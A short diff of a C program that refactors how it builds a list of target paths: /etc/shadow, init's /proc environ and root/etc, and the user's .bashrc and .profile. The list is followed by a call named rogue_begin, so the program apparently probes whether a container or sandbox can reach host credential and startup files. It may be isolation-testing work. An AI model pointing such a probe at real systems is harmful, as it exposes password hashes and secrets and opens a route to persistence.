@@ -55,8 +55,9 @@ int main(int argc, char **argv)
 	static char home[2][256], first[2][32];
 	const char *const targets[] = {"/etc/shadow", home[0], home[1], first[0], first[1]};
 	pid_t init = 1; /* of its own box, or of the machine */
-	snprintf(first[0], sizeof first[0], "/proc/%d/environ", init);
-	snprintf(first[1], sizeof first[1], "/proc/%d/root/etc", init);
+	const char *const of_init[2] = {"environ", "root/etc"};
+	for (int i = 0; i < 2; i++)
+		snprintf(first[i], sizeof first[i], "/proc/%d/%s", init, of_init[i]);
 	snprintf(home[0], sizeof home[0], "%s/.bashrc", argc > 1 ? argv[1] + 1 : "");
 	snprintf(home[1], sizeof home[1], "%s/.profile", argc > 1 ? argv[1] + 1 : "");
 	rogue_begin();
